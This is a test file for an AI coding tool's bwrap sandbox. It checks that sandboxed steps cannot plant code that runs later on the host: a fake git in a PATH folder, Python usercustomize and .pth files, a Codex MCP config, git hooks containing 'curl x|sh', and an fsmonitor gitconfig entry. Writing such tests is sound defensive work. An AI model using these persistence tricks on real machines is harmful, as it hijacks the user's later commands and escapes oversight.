import { afterAll, describe, expect, test } from "bun:test"
import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { runSandbox, sandboxed, type Sandbox } from "../../core/sandbox/session.ts"
import type { SandboxPolicy } from "../../core/policy/types.ts"
import type { ToolResult } from "../../core/tools/types.ts"

// Where the user's later host commands pick up code, in a writable root: ccode's PATH folders, program
// start-up files, core.hooksPath's folder and include.path targets. Real bwrap, real files.
const root = realpathSync(mkdtempSync(join(tmpdir(), "ccode-sbx-hostcode-")))
afterAll(() => rmSync(root, { recursive: true, force: true }))
const policy: SandboxPolicy = { mode: "auto", network: "none", writable: [], hidden: [], read_only: [], preview: false }
const ok: ToolResult = { status: "ok", text: "", stats: { duration_ms: 1, bytes: 0 } }
const boxOf = (workspace: string, home: string, run: string): Sandbox =>
  runSandbox({ status: { mode: "auto", bwrap: "/usr/bin/bwrap", notes: [] }, policy, protectedGlobs: [], workspace, home, runDir: join(root, "runs", run) })!

function run(box: Sandbox, script: string, cwd: string, home: string): ToolResult {
  const { argv, env } = sandboxed(box, ["bash", "-c", script], { cwd, env: { PATH: "/usr/bin:/bin", HOME: home } })
  const done = Bun.spawnSync(argv, { cwd, env })
  const out = done.stdout.toString() + done.stderr.toString()
  return box.explain(done.exitCode === 0 ? { ...ok, text: out } : { status: "error", text: out, error: { code: "EXIT_CODE", type: "execution", message: "exit" }, stats: ok.stats }, cwd)
}

function withPath<T>(path: string, f: () => T): T {
  const was = process.env.PATH
  process.env.PATH = path
  try {
    return f()
  } finally {
    process.env.PATH = was
  }
}

describe("a home that is the workspace", () => {
  const home = join(root, "home")
  mkdirSync(join(home, ".cargo", "bin"), { recursive: true })
  mkdirSync(join(home, ".local", "lib", "python3.11", "site-packages"), { recursive: true })
  mkdirSync(join(home, ".codex"), { recursive: true })
  const plantGit = `printf '#!/bin/sh\\necho PLANTED\\n' > ~/.cargo/bin/git; chmod +x ~/.cargo/bin/git`

  test("a folder not on ccode's PATH stays writable: the step really writes ~/.cargo/bin/git", () => {
    const result = withPath("/usr/bin:/bin", () => run(boxOf(home, home, "a"), plantGit, home, home))
    expect(result.status).toBe("ok")
    expect(existsSync(join(home, ".cargo", "bin", "git"))).toBe(true)
    // what the next host `git status` would have run
    expect(Bun.spawnSync(["git", "status"], { env: { PATH: `${home}/.cargo/bin:/usr/bin:/bin` } }).stdout.toString()).toBe("PLANTED\n")
    rmSync(join(home, ".cargo", "bin", "git"))
  })

  test("a folder on ccode's PATH inside the home is read-only: ~/.cargo/bin/git is not planted", () => {
    const result = withPath(`${home}/.cargo/bin:/usr/bin:/bin`, () => run(boxOf(home, home, "b"), plantGit, home, home))
    expect(result.error?.code).toBe("SANDBOX_BLOCKED")
    expect(existsSync(join(home, ".cargo", "bin", "git"))).toBe(false)
  })

  test("a missing folder on ccode's PATH inside the home (~/go/bin) that a step makes is moved aside and the call refused", () => {
    const result = withPath(`${home}/go/bin:/usr/bin:/bin`, () => run(boxOf(home, home, "b2"), "mkdir -p ~/go/bin && printf '#!/bin/sh\\n' > ~/go/bin/git", home, home))
    expect(result.error?.code).toBe("SANDBOX_BLOCKED")
    expect(result.error?.message).toContain(join(home, "go", "bin"))
    expect(existsSync(join(home, "go", "bin"))).toBe(false)
  })

  test("python's user site-packages (usercustomize.py, .pth) is read-only", () => {
    const site = join(home, ".local", "lib", "python3.11", "site-packages")
    const result = run(boxOf(home, home, "c"), `echo 'import os' > ${site}/usercustomize.py; echo 'import os' > ${site}/x.pth`, home, home)
    expect(result.error?.code).toBe("SANDBOX_BLOCKED")
    expect(existsSync(join(site, "usercustomize.py"))).toBe(false)
    expect(existsSync(join(site, "x.pth"))).toBe(false)
  })

  test("a new python3.X folder made in ~/.local/lib (its user site-packages) is moved aside; another folder there is not", () => {
    const made = join(home, ".local", "lib", "python3.13")
    const result = run(boxOf(home, home, "c2"), `mkdir -p ${made}/site-packages ${home}/.local/lib/other && echo 'import os' > ${made}/site-packages/usercustomize.py`, home, home)
    expect(result.error?.code).toBe("SANDBOX_BLOCKED")
    expect(result.error?.message).toContain(made)
    expect(existsSync(made)).toBe(false)
    expect(existsSync(join(home, ".local", "lib", "other"))).toBe(true)
  })

  test("~/.codex/config.toml a step makes (its MCP servers run at codex's start) is moved aside and the call refused", () => {
    const result = run(boxOf(home, home, "d"), `printf '[mcp_servers.h]\\ncommand="sh"\\n' > ~/.codex/config.toml; touch ~/ok.txt`, home, home)
    expect(result.error?.code).toBe("SANDBOX_BLOCKED")
    expect(result.error?.message).toContain(join(home, ".codex", "config.toml"))
    expect(existsSync(join(home, ".codex", "config.toml"))).toBe(false)
    expect(existsSync(join(home, "ok.txt"))).toBe(true)
  })
})

describe("the repository's hooks folder and included configs", () => {
  const home = join(root, "home2")
  mkdirSync(home, { recursive: true })
  const repo = (name: string, config: string): string => {
    const ws = join(root, name)
    mkdirSync(join(ws, ".git", "hooks"), { recursive: true })
    writeFileSync(join(ws, ".git", "config"), `[core]\n\trepositoryformatversion = 0\n${config}`)
    return ws
  }

  test("core.hooksPath = .husky/_ that exists: neither .husky/_ nor husky's .husky can be written", () => {
    const ws = repo("husky", "\thooksPath = .husky/_\n")
    mkdirSync(join(ws, ".husky", "_"), { recursive: true })
    const result = run(boxOf(ws, home, "e"), "echo 'curl x|sh' > .husky/pre-commit; echo 'curl x|sh' > .husky/_/post-checkout", ws, home)
    expect(result.error?.code).toBe("SANDBOX_BLOCKED")
    expect(existsSync(join(ws, ".husky", "pre-commit"))).toBe(false)
    expect(existsSync(join(ws, ".husky", "_", "post-checkout"))).toBe(false)
  })

  test("core.hooksPath naming a missing folder: the folder a step makes is moved aside and the call refused", () => {
    const ws = repo("husky-missing", "\thooksPath = .husky/_\n")
    const result = run(boxOf(ws, home, "f"), "mkdir -p .husky/_ && echo 'curl x|sh' > .husky/_/post-checkout", ws, home)
    expect(result.error?.code).toBe("SANDBOX_BLOCKED")
    expect(existsSync(join(ws, ".husky", "_", "post-checkout"))).toBe(false)
  })

  test("a .git file (a linked worktree): the hooks folder the config where it points names is read-only", () => {
    const ws = join(root, "linked")
    const gd = join(root, "linked-gitdir")
    mkdirSync(join(gd, "hooks"), { recursive: true })
    mkdirSync(join(ws, ".githooks"), { recursive: true })
    writeFileSync(join(gd, "config"), "[core]\n\thooksPath = .githooks\n")
    writeFileSync(join(ws, ".git"), `gitdir: ${gd}\n`)
    const result = run(boxOf(ws, home, "i"), "echo 'curl x|sh' > .githooks/pre-commit", ws, home)
    expect(result.error?.code).toBe("SANDBOX_BLOCKED")
    expect(existsSync(join(ws, ".githooks", "pre-commit"))).toBe(false)
  })

  test("include.path = ../.gitconfig: the included file is read-only, and made when missing is moved aside", () => {
    const ws = repo("include", "[include]\n\tpath = ../.gitconfig\n")
    const made = run(boxOf(ws, home, "g"), "printf '[core]\\n\\tfsmonitor = echo x\\n' > .gitconfig", ws, home)
    expect(made.error?.code).toBe("SANDBOX_BLOCKED")
    expect(existsSync(join(ws, ".gitconfig"))).toBe(false)
    writeFileSync(join(ws, ".gitconfig"), "[user]\n\tname = u\n")
    const changed = run(boxOf(ws, home, "h"), "printf '[core]\\n\\tfsmonitor = echo x\\n' >> .gitconfig", ws, home)
    expect(changed.error?.code).toBe("SANDBOX_BLOCKED")
    expect(Bun.file(join(ws, ".gitconfig")).size).toBe("[user]\n\tname = u\n".length)
  })
})
